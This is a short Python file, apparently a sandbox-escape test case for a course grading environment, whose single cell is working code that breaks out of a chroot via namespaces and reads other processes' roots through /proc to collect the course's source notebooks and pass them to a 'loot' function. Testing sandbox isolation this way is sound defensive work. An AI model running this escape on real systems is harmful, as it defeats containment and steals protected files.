"""The root of another process, or of a namespace of one's own, leads to the whole machine."""

CATEGORY = "files"
LONG = True
CELLS = {
    "constant": """
import ctypes, glob, os

libc = ctypes.CDLL(None, use_errno=True)
pid = os.fork()
if pid == 0:
    try:
        libc.unshare(0x10000000 | 0x00020000)  # a user and a mount namespace
        libc.mount(b"none", b"/", None, 0x44000, None)
        os.makedirs("/tmp/jail", exist_ok=True)
        root = os.open("/", os.O_RDONLY)
        libc.chroot(b"/tmp/jail")
        os.fchdir(root)
        for _ in range(20):
            os.chdir("..")
        libc.chroot(b".")
        for top in ("", "/proc/1/root", f"/proc/{os.getppid()}/root", "/proc/1/cwd"):
            for path in glob.glob(top + "@COURSE@/source/*/*.ipynb"):
                with open(path) as file, open("/tmp/found", "a") as found:
                    found.write(file.read())
    finally:
        os._exit(0)
os.waitpid(pid, 0)
if os.path.exists("/tmp/found"):
    with open("/tmp/found") as file:
        loot(file.read())
"""
}
